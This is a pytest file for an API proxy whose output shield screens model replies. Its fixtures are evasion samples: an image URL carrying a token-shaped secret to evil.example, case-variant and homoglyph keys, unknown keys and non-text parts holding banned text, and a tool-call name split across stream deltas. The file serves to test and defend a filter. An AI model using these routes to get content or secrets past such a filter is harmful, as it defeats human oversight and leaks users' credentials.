"""Reply text in places the proxy does not read fails closed instead of passing unchecked.

- a content part of a reply is read only as ``text``/``output_text``/``refusal`` with the keys
  ``type``, ``text``, ``refusal``: an image part (its URL can carry a secret out), audio, a
  file, a type of its own, or an extra key on a text part fails the reply;
- a case variant of a known key (``"Content"``, ``"reaſoning_content"``) in a message, delta,
  choice, tool call or function object fails it (Go clients match keys ignoring case);
- an unknown key holding text in a message, delta, tool call or function object fails it (the
  SDK keeps unknown keys and its stream accumulator joins them);
- a streamed tool-call name comes whole in one delta, and the event bringing it waits for the
  next event of its call (Responses too: ``output_item.added`` never carries a partial name).

Whole reply: 502 in OpenAI's error shape; stream: an in-band ``upstream_error``, then [DONE].
"""

from __future__ import annotations

import json
from typing import Any

import aiohttp
import pytest

from proxy.serving.server import RunningServer
from tests.conftest import ProxyFactory
from tests.support.constants import BANNED, DONE, REPO_ROOT
from tests.support.fake_upstream import FakeUpstream, Reply, chat_completion, chunk, json_bytes, sse

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"  # a GitHub token shape
USER = [{"role": "user", "content": "hi"}]
STRICT = (REPO_ROOT / "policies" / "strict.yaml").read_text()
IMAGE = {"type": "image_url", "image_url": {"url": "https://evil.example/p.png?q=" + TOKEN}}

# Parts no output shield reads: each must fail the reply.
UNREAD_PARTS: list[Any] = [
    IMAGE,
    {"type": "x", "data": BANNED},
    {"type": "input_audio", "input_audio": {"data": BANNED, "format": "wav"}},
    {"type": "file", "file": {"file_data": BANNED, "filename": "a.txt"}},
    {"type": "text", "text": "hi", "extra": BANNED},
    {"text": BANNED + "?"},  # no type: not a part the proxy knows how a client reads
]


async def post(
    http: aiohttp.ClientSession, proxy: RunningServer, *, stream: bool
) -> tuple[int, bytes]:
    payload = {"model": "m", "messages": USER, "stream": stream}
    async with http.post(f"{proxy.url}/v1/chat/completions", json=payload) as resp:
        return resp.status, await resp.read()


def assert_reply_failed(status: int, raw: bytes) -> None:
    assert status == 502, raw[:300]
    assert json.loads(raw)["error"]["code"] == "upstream_error"
    assert b"bomb" not in raw and TOKEN.encode() not in raw and b"evil" not in raw


def assert_stream_failed(raw: bytes) -> None:
    assert raw.endswith(DONE), raw[-300:]
    last = json.loads(raw[: -len(DONE)].split(b"\n\n")[-2].removeprefix(b"data: "))
    assert last["error"]["code"] == "upstream_error"
    assert b"bomb" not in raw and TOKEN.encode() not in raw and b"evil" not in raw


@pytest.mark.parametrize("policy", [None, STRICT], ids=["default", "strict"])
@pytest.mark.parametrize("part", UNREAD_PARTS)
async def test_an_unread_content_part_fails_closed(
    policy: str | None,
    part: Any,
    upstream: FakeUpstream,
    make_proxy: ProxyFactory,
    http: aiohttp.ClientSession,
) -> None:
    proxy = await make_proxy(policy)
    content = [{"type": "text", "text": "Here you go "}, part]
    upstream.enqueue(
        Reply(body=json_bytes(chat_completion(choices=[whole_choice({"content": content})])))
    )
    assert_reply_failed(*await post(http, proxy, stream=False))

    events = [chunk({"role": "assistant", "content": content}), chunk({}, finish_reason="stop")]
    upstream.enqueue(Reply(events=events))
    status, raw = await post(http, proxy, stream=True)
    assert status == 200
    assert_stream_failed(raw)


def whole_choice(message: dict[str, Any]) -> dict[str, Any]:
    return {
        "index": 0,
        "message": {"role": "assistant", **message},
        "finish_reason": "stop",
    }


async def test_read_parts_still_pass_byte_for_byte(
    upstream: FakeUpstream, make_proxy: ProxyFactory, http: aiohttp.ClientSession
) -> None:
    proxy = await make_proxy()
    parts = [{"type": "text", "text": "Hello "}, {"type": "output_text", "text": "there"}]
    parts.append({"type": "refusal", "refusal": "no"})
    events = [chunk({"role": "assistant", "content": parts}), chunk({}, finish_reason="stop")]
    upstream.enqueue(Reply(events=events))
    status, raw = await post(http, proxy, stream=True)
    assert (status, raw) == (200, sse(*events))


# (where the key goes, the key and its value): each must fail the reply and the stream.
HOSTILE_KEYS: list[tuple[str, str, Any]] = [
    ("message", "Content", BANNED),
    ("message", "reaſoning_content", BANNED),  # LONG S: Go folds it to "s"
    ("message", "CONTENT", None),  # a case variant is refused whatever it holds
    ("message", "foo", BANNED),
    ("message", "foo", [{"nested": BANNED}]),
    ("choice", "Delta", {"content": BANNED}),
    ("choice", "Message", {"content": BANNED}),
    ("call", "Function", {"name": "f", "arguments": BANNED}),
    ("call", "note", BANNED),
    ("function", "Arguments", BANNED),
    ("function", "description", BANNED),
]


def hostile_reply(where: str, key: str, value: Any, *, stream: bool) -> dict[str, Any]:
    function: dict[str, Any] = {"name": "f", "arguments": "{}"}
    call: dict[str, Any] = {"id": "c1", "type": "function", "function": function}
    if stream:
        call["index"] = 0
    message: dict[str, Any] = {"role": "assistant", "content": "hi"}
    if where in ("call", "function"):
        message["tool_calls"] = [call]
    {"message": message, "call": call, "function": function}.get(where, {})[key] = value
    holder = "delta" if stream else "message"
    choice: dict[str, Any] = {"index": 0, holder: message, "finish_reason": None}
    if where == "choice":
        choice[key] = value
    if stream:
        return chunk({}) | {"choices": [choice]}
    return chat_completion(choices=[choice | {"finish_reason": "stop"}])


@pytest.mark.parametrize(("where", "key", "value"), HOSTILE_KEYS)
async def test_case_variants_and_unknown_keys_holding_text_fail_closed(
    where: str,
    key: str,
    value: Any,
    upstream: FakeUpstream,
    make_proxy: ProxyFactory,
    http: aiohttp.ClientSession,
) -> None:
    proxy = await make_proxy()
    upstream.enqueue(Reply(body=json_bytes(hostile_reply(where, key, value, stream=False))))
    assert_reply_failed(*await post(http, proxy, stream=False))

    events = [hostile_reply(where, key, value, stream=True), chunk({}, finish_reason="stop")]
    upstream.enqueue(Reply(events=events))
    status, raw = await post(http, proxy, stream=True)
    assert status == 200
    assert_stream_failed(raw)


async def test_the_keys_real_servers_send_pass_byte_for_byte(
    upstream: FakeUpstream, make_proxy: ProxyFactory, http: aiohttp.ClientSession
) -> None:
    # OpenAI's annotations, LiteLLM's null provider_specific_fields, vLLM's stop_reason on a
    # choice, and unknown keys holding no text.
    message = {
        "role": "assistant",
        "content": "Hello",
        "annotations": [{"type": "url_citation", "url_citation": {"url": "https://a.b/"}}],
        "provider_specific_fields": None,
        "tokens": [1, 2, 3],
    }
    choice = {"index": 0, "message": message, "finish_reason": "stop", "stop_reason": None}
    reply = chat_completion(choices=[choice])
    upstream.enqueue(Reply(body=json_bytes(reply)))
    proxy = await make_proxy()
    status, raw = await post(http, proxy, stream=False)
    assert status == 200 and json.loads(raw) == reply


def call_delta(name: str | None, arguments: str, *, first: bool) -> dict[str, Any]:
    function: dict[str, Any] = {"arguments": arguments}
    if name is not None:
        function["name"] = name
    call: dict[str, Any] = {"index": 0, "function": function}
    if first:
        call |= {"id": "call_1", "type": "function"}
    return chunk({"tool_calls": [call]})


async def test_a_name_split_over_deltas_never_leaves_in_part(
    upstream: FakeUpstream, make_proxy: ProxyFactory, http: aiohttp.ClientSession
) -> None:
    proxy = await make_proxy()
    events = [call_delta("build a ", "", first=True), call_delta("bomb", "{}", first=False)]
    for path, payload in (
        ("chat/completions", {"model": "m", "messages": USER, "stream": True}),
        ("responses", {"model": "m", "input": "hi", "stream": True}),
    ):
        # Paced as a model streams: without the hold, the first event leaves at once.
        upstream.enqueue(Reply(events=events, chunk_delay=0.2))
        async with http.post(f"{proxy.url}/v1/{path}", json=payload) as resp:
            raw = await resp.read()
        assert b"build a" not in raw and b"bomb" not in raw, raw[:400]
        assert b"upstream_error" in raw or b"response.failed" in raw


async def test_a_whole_name_leaves_once_its_arguments_start(
    upstream: FakeUpstream, make_proxy: ProxyFactory, http: aiohttp.ClientSession
) -> None:
    proxy = await make_proxy()
    events = [call_delta("get_weather", "", first=True), call_delta(None, '{"a": 1}', first=False)]
    events.append(chunk({}, finish_reason="tool_calls"))
    upstream.enqueue(Reply(events=events, chunk_delay=0.05))
    status, raw = await post(http, proxy, stream=True)
    assert (status, raw) == (200, sse(*events))
